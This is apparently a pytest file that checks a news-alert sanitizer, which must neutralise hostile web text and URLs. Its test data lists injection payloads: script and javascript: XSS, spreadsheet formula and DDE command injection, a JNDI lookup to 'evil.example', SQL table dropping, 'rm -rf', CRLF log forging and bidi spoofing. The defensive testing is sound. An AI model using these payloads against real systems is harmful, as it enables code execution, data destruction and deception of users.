"""Text from the web is harmless wherever an alert is shown."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from alerts.rules import alert_for
from alerts.text import harmless, web_address
from tests.alerts.reports import observation, report

HOSTILE = [
    "<script>alert(1)</script>", "<at user_id=\"all\"></at>", "<!channel>", "@everyone", "![x](http://evil.example/p.png)",
    "[点这里](javascript:alert(1))", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(A1)", "{{7*7}}", "${jndi:ldap://evil.example}", "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "line\r\nSubject: forged\n2025-08-07 ERROR forged log line", "'; DROP TABLE parkwatch.alert; --",
    "产值\u202e312\u202c.6\u200b亿元", "\x00nul", "\udcff lone surrogate", "`rm -rf`", "# heading", "* * *",
    "\u2028line separator", "javascript:alert(1)", "JaVaScRiPt :alert(1)",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_markup_no_control_no_formula_no_second_line(text: str) -> None:
    line = harmless(text)
    assert not set(line) & set("<>[]`*@\\{}|#\n\r\t")
    assert all(unicodedata.category(c)[0] != "C" for c in line)
    assert not line.startswith(("=", "+", "-", "@", "'", '"'))
    assert "javascript:" not in line.lower().replace(" ", "")
    assert harmless(line) == line


def test_a_plain_sentence_stays_as_it_is() -> None:
    sentence = "上半年，青岚经济开发区实现规上工业产值312.6亿元，同比增长8.7%——“开门红”。"
    assert harmless(sentence) == sentence
    assert harmless("园" * 500, 10) == "园" * 9 + "…"


@pytest.mark.parametrize(("url", "safe"), [
    ("http://news.example/a b?q=<x>", "http://news.example/a%20b?q=%3Cx%3E"),
    ("https://user:secret@news.example:8443/1.html#top", "https://news.example:8443/1.html"),
    ("http://news.example/1)[x](javascript:alert(1)", "http://news.example/1%29%5Bx%5D%28javascript:alert%281%29"),
    ("javascript:alert(1)", ""), ("data:text/html,x", ""), ("file:///etc/passwd", ""), ("http://", ""),
    ("http://[::1", ""), ("", ""),
    ("http://新闻.example/", "http://新闻.example/"), ("http://a\nb.example/", "http://ab.example/"),
])
def test_addresses(url: str, safe: str) -> None:
    assert web_address(url) == safe


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_an_alert_of_a_hostile_article_is_harmless(text: str) -> None:
    alert = alert_for(report(
        observation(subject=text, evidence=text, indicator_text=text, unit=text, scope=text, comparator=text, measure="share"),
        title=text, url=text, source=text, portal=text, published=text, parks=(text,)))
    assert alert is not None
    for line in [alert.title, *alert.body.split("\n")]:
        assert not set(line) & set("<>[]`*@\\{}|#\r\t\x1b\x00")
        assert not line.startswith(("=", "+", "-", "@"))
    out = io.StringIO()
    csv.writer(out).writerow([alert.title, alert.body])
    assert len(list(csv.reader(io.StringIO(out.getvalue())))) == 1
